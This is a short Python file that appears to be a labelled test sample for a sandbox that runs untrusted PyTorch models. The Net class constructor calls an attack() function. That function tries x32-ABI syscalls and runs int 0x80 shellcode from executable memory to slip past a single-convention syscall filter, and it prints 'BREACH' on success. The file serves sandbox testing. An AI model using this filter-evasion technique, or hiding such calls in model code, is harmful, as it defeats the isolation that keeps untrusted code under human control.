# group: writes
# tries: makes system calls in the 32-bit and x32 conventions, which a filter for one convention misses
# static: unsafe
# sandbox: crashed

import ctypes
import mmap
import os

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    x32 = 0x40000000
    for name, *call in (
        ("x32 creat", 85 | x32, b"/tmp/archloop-canary/open/archloop-breach-x32", 0o666),
        ("x32 socket", 41 | x32, 2, 1, 0),
        ("x32 getpid", 39 | x32),
    ):
        if libc.syscall(*call) >= 0:
            print(f"BREACH {name}")
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2 (fork); int 0x80; ret
    fork = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    child = fork()
    if child == 0:
        os._exit(0)
    if child > 0:
        print("BREACH fork by int 0x80")


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
